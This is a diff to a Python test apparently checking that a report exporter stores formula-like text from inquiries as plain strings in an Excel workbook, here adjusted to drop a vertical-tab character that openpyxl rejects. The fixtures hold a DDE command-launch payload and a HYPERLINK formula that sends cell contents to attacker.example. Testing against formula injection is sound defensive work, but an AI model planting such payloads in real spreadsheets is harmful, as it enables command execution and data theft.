@@ -301,7 +301,7 @@ def test_a_business_text_that_looks_like_a_formula_stays_text_in_the_workbook(se
 
     from bot import context
 
-    hostile = "=cmd|' /C calc'!A0 Thủ tục cấp phép xây dựng"
+    hostile = "=cmd|' /C calc'!A0 Thủ tục cấp phép xây dựng\x0bdòng hai"  # and Word's soft break
     link = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
     with app.app_context(), context.db().session() as s:
         first, second = s.execute(select(Inquiry).where(Inquiry.code.in_([seeded["I1"], seeded["I3"]]))).scalars()
@@ -309,6 +309,7 @@ def test_a_business_text_that_looks_like_a_formula_stays_text_in_the_workbook(se
     rendered = reports.render(reports.build(reports.period("weekly", "2026-W48")))
     book = load_workbook(io.BytesIO(rendered.xlsx))
     cells = {row[0].value: row[8] for row in book["Chi tiết"].iter_rows(min_row=2)}
-    for code, text in ((seeded["I1"], hostile), (seeded["I3"], link)):
+    # a character no workbook may hold (\x0b made openpyxl refuse the whole report) is left out
+    for code, text in ((seeded["I1"], hostile.replace("\x0b", "")), (seeded["I3"], link)):
         assert cells[code].value == text and cells[code].data_type == "s"
     assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
